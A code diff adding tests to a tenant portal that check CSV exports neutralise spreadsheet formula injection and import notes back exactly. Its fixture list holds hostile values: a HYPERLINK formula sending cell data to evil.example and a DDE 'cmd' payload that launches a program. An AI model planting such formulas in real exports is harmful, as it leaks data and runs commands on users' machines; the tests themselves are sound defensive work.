@@ -117,3 +117,71 @@ def test_the_admin_cannot_give_himself_a_dpo_account(tmp_path):
     assert rogue.post("/admin/approvals", data={"user_id": str(rogue_id)}).status_code == 403  # not himself
     assert dpo.post("/admin/approvals", data={"user_id": str(rogue_id)}).status_code == 302
     assert rogue.get(f"/staff/tenants/{camille}").status_code == 200
+
+
+# --- 5. Spreadsheet formula injection ---------------------------------------------------
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Cliquez")', "+33 6 12 34 56 78 =1+1", "-- à vérifier",
+            "@SUM(1+1)", "\t=cmd|' /C calc'!A0", "'=already quoted", "-12.50")
+
+
+def _add_notes(app, number: str, bodies) -> None:
+    from sqlalchemy import select
+
+    from portal.db import Database
+    from portal.models import Note, Tenant
+
+    with app.app_context():
+        s = Database.state(app).factory()
+        tenant = s.scalar(select(Tenant).where(Tenant.tenant_number == number))
+        s.add_all([Note(tenant_id=tenant.id, body=b, author_name="Test") for b in bodies])
+        s.commit()
+        s.close()
+
+
+def _cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+
+
+def test_no_cell_of_the_tenant_csv_export_is_a_live_formula(tmp_path):
+    import io
+    import zipfile
+
+    app = build_app(tmp_path, "formulas")
+    _add_notes(app, "LOC-000101", FORMULAS)
+    client = app.test_client()
+    _login(client, CAMILLE)
+    archive = zipfile.ZipFile(io.BytesIO(client.get("/me/export.zip").data))
+    cells = [c for name in archive.namelist() if name.endswith(".csv")
+             for c in _cells(archive.read(name).decode("utf-8"))]
+    live = [c for c in cells if c and c[0] in "=+-@\t\r" and not c.replace(".", "").lstrip("+-").isdigit()]
+    assert live == []
+    assert "'" + FORMULAS[0] in cells and "-12.50" in cells  # text kept, shown as text; numbers stay numbers
+
+
+def test_export_csv_neutralises_formulas_and_import_reads_them_back_exactly(tmp_path):
+    from sqlalchemy import select
+
+    from portal.db import Database
+    from portal.models import Note
+
+    source = build_app(tmp_path, "formula_src")
+    _add_notes(source, "LOC-000101", FORMULAS)
+    out = tmp_path / "export"
+    assert source.test_cli_runner().invoke(args=["export-csv", str(out)]).exit_code == 0
+    text = (out / "notes.csv").read_text(encoding="utf-8-sig")
+    cells = _cells(text)
+    assert not [c for c in cells if c.startswith(("=", "@", "\t="))]
+    assert "'" + FORMULAS[0] in cells
+    target = build_app(tmp_path, "formula_dst", demo=False)
+    result = target.test_cli_runner().invoke(args=["import", str(out)])
+    assert result.exit_code == 0, result.output
+    with target.app_context():
+        s = Database.state(target).factory()
+        bodies = set(s.scalars(select(Note.body)))
+        s.close()
+    # The importer trims spaces around every cell (spreadsheets add them): the tab goes.
+    assert {f.strip() for f in FORMULAS} <= bodies
